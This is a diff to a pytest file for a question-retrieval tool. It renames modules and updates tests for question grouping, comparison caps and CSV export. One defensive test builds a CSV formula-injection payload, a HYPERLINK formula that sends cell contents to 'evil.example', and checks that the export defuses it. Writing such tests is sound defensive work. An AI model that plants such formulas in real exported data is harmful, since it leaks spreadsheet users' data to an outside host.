@@ -14,10 +14,11 @@ from pathlib import Path
 import pytest
 
 from retrieval import RetrievalError
+from retrieval.benchmarks.report import synthetic_questions
 from retrieval.cli.cli import main
-from retrieval.evaluate import feedback
-from retrieval.evaluate.feedback import SCHEMA, Asked, group, report_from_file
-from retrieval.evaluate.report_bench import synthetic_questions
+from retrieval.questions import report as question_report
+from retrieval.questions.log import SCHEMA, Asked
+from retrieval.questions.report import group, report_from_file
 
 DAY = 86400
 
@@ -91,8 +92,8 @@ def grouped_comparing_every_pair(questions: list[Asked]) -> list[list[str]]:
     """What grouping means, the slow way: each question joins the first group whose first question it is close to."""
     groups: list[tuple[frozenset[str], list[str]]] = []
     for item in sorted(questions, key=lambda a: a.asked_at):
-        found = feedback.words(item.question)
-        home = next((members for key, members in groups if feedback.similar(key, found)), None)
+        found = question_report.words(item.question)
+        home = next((members for key, members in groups if question_report.similar(key, found)), None)
         if home is None:
             home = []
             groups.append((found, home))
@@ -112,15 +113,15 @@ def test_grouping_finds_what_comparing_every_pair_finds():
 
 @pytest.fixture
 def comparisons(monkeypatch: pytest.MonkeyPatch) -> list[int]:
-    """A one-item list counting the calls of feedback.similar, the pairwise comparison grouping makes."""
+    """A one-item list counting the calls of question_report.similar, the pairwise comparison grouping makes."""
     compared = [0]
-    similar = feedback.similar
+    similar = question_report.similar
 
     def counted(a, b):
         compared[0] += 1
         return similar(a, b)
 
-    monkeypatch.setattr(feedback, "similar", counted)
+    monkeypatch.setattr(question_report, "similar", counted)
     return compared
 
 
@@ -133,7 +134,7 @@ def test_grouping_compares_a_question_with_a_few_groups_not_all(comparisons: lis
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_report_csv_holds_no_live_formula(start: str):
     hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
-    found = feedback.report([asked(hostile, covered=False, at=1), asked(hostile, covered=False, at=2)], days=30)
+    found = question_report.report([asked(hostile, covered=False, at=1), asked(hostile, covered=False, at=2)], days=30)
     text = found.csv()
     rows = list(csv.reader(io.StringIO(text)))
     assert [row[1] for row in rows[1:]] == [f"'{hostile}"] * 2  # not covered, and most asked
@@ -146,5 +147,5 @@ def test_a_log_built_to_defeat_the_filter_compares_at_most_the_cap(comparisons: 
     vocabulary = [f"word{n}" for n in range(30)]  # few words in many combinations: every pair is common
     questions = [asked(" ".join(rng.sample(vocabulary, 8)), at=n) for n in range(3000)]
     group(questions)
-    assert comparisons[0] <= feedback.MAX_COMPARED * len(questions)
+    assert comparisons[0] <= question_report.MAX_COMPARED * len(questions)
     assert comparisons[0] > 20 * len(questions)  # the filter does not help here: the cap is what bounds it
